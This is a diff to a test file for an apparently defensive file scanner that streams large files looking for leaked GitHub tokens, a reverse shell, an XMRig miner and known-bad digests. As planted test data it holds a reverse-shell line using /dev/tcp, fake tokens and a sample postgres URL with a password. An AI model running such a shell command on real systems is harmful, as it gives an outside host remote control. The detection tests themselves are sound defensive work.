@@ -75,12 +75,55 @@ describe('the examiner', () => {
     expect(await look('/eicar.com', eicar)).toEqual(['inspect/malware/test-file low: is it']);
   });
 
-  it('passes over documentation, and large files that nobody runs', async () => {
+  it('passes over documentation', async () => {
     expect(await look('/usr/share/doc/x/README', 'postgres://a:s3cr3tpw@db/x')).toBeUndefined();
-    const examiner = await createExaminer({});
-    expect(examiner.wants({ path: '/data', size: 2 ** 21, mode: 0o644 })).toBe(0);
-    expect(examiner.wants({ path: '/bin/big', size: 2 ** 21, mode: 0o755 })).toBe(2 ** 21);
-    expect(examiner.wants({ path: '/bin/huge', size: 2 ** 40, mode: 0o755 })).toBe(0);
+  });
+
+  /** Of a file of any size, shown in pieces of that size. */
+  async function follow(
+    path: string,
+    bytes: Buffer,
+    piece: number,
+    options: Parameters<typeof createExaminer>[0] = {},
+  ) {
+    const follower = (await createExaminer(options)).follow?.({ path, size: bytes.length, mode: 0o755 });
+    let asks = true;
+    let shown = 0;
+    for (; asks && shown < bytes.length; shown += piece)
+      asks = follower?.push(bytes.subarray(shown, shown + piece)) ?? false;
+    const notes = follower?.end() ?? [];
+    return { shown, found: 'unexamined' in notes ? [] : notes.map((note) => `${note.rule} ${note.detail}`) };
+  }
+
+  it('follows large files, whatever the pieces in which they come', async () => {
+    const text = Buffer.alloc(3_000_000, 'just a line\n');
+    const tokens = [0, 1, 1_048_576, 1_081_000, 2_999_900].map((at, index) => {
+      const token = ['ghp', `_${'a1B2c3D4e5F6g7H8'.repeat(2)}xyz${index}`].join('');
+      text.write(` ${token}\n`, at * (at === 1 ? 500_000 : 1));
+      return token;
+    });
+    text.write('\nexec 5<>/dev/tcp/10.0.0.1/4444\n', 2_000_000);
+    const program = Buffer.concat([elf('xmrig'), Buffer.alloc(2_000_000, 1), Buffer.from('donate-level')]);
+    for (const piece of [100, 4096, 65_536, 1_048_576, 4_000_000]) {
+      const { found } = await follow('/a', text, piece);
+      expect(found).toHaveLength(tokens.length + 1);
+      const lines = tokens.map((token) => text.subarray(0, text.indexOf(token)).toString().split('\n').length);
+      expect(found.slice(0, -1)).toEqual(
+        lines.map((line) => `inspect/secret/service-token GitHub token ghp_…, 40 characters, line ${line}`),
+      );
+      expect(found.at(-1)).toContain('inspect/malware/reverse-shell');
+      expect((await follow('/a', program, piece)).found).toEqual(['inspect/malware/miner is XMRig or made of it']);
+    }
+  });
+
+  it('asks for no more of what is neither text nor program, but for its digest', async () => {
+    const data = Buffer.alloc(3_000_000);
+    expect(await follow('/data', data, 100_000)).toEqual({ shown: 100_000, found: [] });
+    const badDigests = new Map([[createHash('sha256').update(data).digest('hex'), 'Bad.Data']]);
+    expect(await follow('/data', data, 100_000, { badDigests })).toEqual({
+      shown: 3_000_000,
+      found: ['inspect/malware/known-bad is Bad.Data'],
+    });
   });
 
   it('finds known-bad files by their digest', async () => {
